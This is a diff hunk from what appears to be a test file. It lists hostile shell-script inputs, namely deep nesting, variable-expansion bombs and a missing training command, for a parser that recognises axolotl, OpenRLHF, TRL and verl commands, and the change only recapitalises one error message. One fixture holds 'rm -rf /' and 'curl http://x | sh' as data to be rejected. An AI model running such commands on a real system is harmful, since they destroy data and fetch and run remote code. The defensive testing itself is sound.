@@ -113,7 +113,7 @@ HOSTILE = {
     "defaults.sh": (f"{COMMAND} a.b=" + "${a:-" * 60 + "}" * 60, "nested more than 40 levels deep"),
     "growing.sh": ("a=xxxxxxxxxx\n" + 'a="$a$a"\n' * 60 + COMMAND, "its variables make more than 4,000,000 characters"),
     "many.sh": (f"a={'x' * 9000}\n" + 'b="$a"\n' * 900 + COMMAND, "its variables make more than 4,000,000 characters"),
-    "other.sh": ("rm -rf /\ncurl http://x | sh\n", "no command of axolotl or openrlhf or trl or verl was found"),
+    "other.sh": ("rm -rf /\ncurl http://x | sh\n", "no command of axolotl or OpenRLHF or TRL or verl was found"),
     "axolotl.sh": ("axolotl train x.yml\n", r"it runs axolotl with x\.yml; import that file"),
     "kd.sh": ("python -m openrlhf.cli.train_kd --pretrain m\n", "there is no algorithm distillation here"),
     "empty.sh": ("", "no command of"),
